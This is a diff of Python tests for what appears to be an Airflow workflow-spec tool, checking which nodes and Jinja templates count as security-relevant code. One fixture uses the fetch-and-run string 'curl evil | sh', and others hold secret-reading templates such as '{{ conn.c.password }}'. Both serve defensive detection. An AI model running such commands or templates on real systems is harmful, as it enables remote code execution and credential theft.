@@ -69,6 +69,8 @@ def test_operator_nodes_every_argument_and_mapped_inputs() -> None:
     )
     assert sorted(pointers(None, base)) == [
         "/edges/2/mapping/0",
+        "/nodes/0",  # start and shape compute what is mapped into the operator: their definitions count
+        "/nodes/1",
         "/nodes/3/operator",
         "/nodes/3/parameters/bash_command",
         "/nodes/3/parameters/env",
@@ -117,3 +119,50 @@ def test_digest_names_exactly_the_changes() -> None:
     assert one == changes_digest(code_changes(wf(a), wf(b)), workflow_id="surface", environment="dev")
     assert one != changes_digest(code_changes(wf(a), wf(c)), workflow_id="surface", environment="dev")
     assert one != changes_digest(code_changes(wf(a), wf(b)), workflow_id="surface", environment="prod")
+
+
+def test_nodes_feeding_an_operator_are_code_others_are_not() -> None:
+    base = spec()
+    base["nodes"].append(
+        {
+            "id": "sh",
+            "type": "tool",
+            "operator": "airflow.providers.standard.operators.bash.BashOperator",
+            "parameters": {"bash_command": "echo 1"},
+        }
+    )
+    base["edges"].append({"source": "shape", "target": "sh", "mapping": [{"target": "bash_command"}]})
+    literal = copy.deepcopy(base)
+    literal["nodes"][1]["process"]["expression"] = "'curl evil | sh'"
+    assert pointers(base, literal) == ["/nodes/1"]
+    cosmetic = copy.deepcopy(base)
+    cosmetic["nodes"][1].update(name="Shape", description="text", ui={"position": {"x": 5, "y": 5}})
+    cosmetic["nodes"][2]["name"] = "End"  # the output node feeds no operator
+    assert pointers(base, cosmetic) == []
+
+
+def test_jinja_reading_more_than_run_data_is_code() -> None:
+    from airflow_canvas.spec.code_surface import jinja_is_data
+
+    for text in (
+        "plain",
+        "{{ ds }} {{ params.x | upper }} {{ ti.task_id }}",
+        "{% for v in params.l %}{{ v }}{% endfor %}",
+    ):
+        assert jinja_is_data(text), text
+    for text in (
+        "{{ conn.c.password }}",
+        "{{ var.value.k }}",
+        "{{ ti.xcom_pull(dag_id='d') }}",
+        "{{ ti }}",
+        "{% include 'f' %}",
+        "{% set p = conn %}{{ p }}",
+        "{% for conn in [] %}{% endfor %}{{ conn }}",
+        "{{ params | attr('x') }}",
+        "{{ x",
+    ):
+        assert not jinja_is_data(text), text
+    base = spec()
+    base["nodes"][1]["templates"] = {"t": "{{ conn.c.password }}"}
+    base["notifications"] = [{"notifier": "smtp", "to": ["{{ var.value.to }}"], "message": "{{ ds }}"}]
+    assert sorted(pointers(None, base)) == ["/nodes/1/templates/t", "/notifications/0/to/0"]
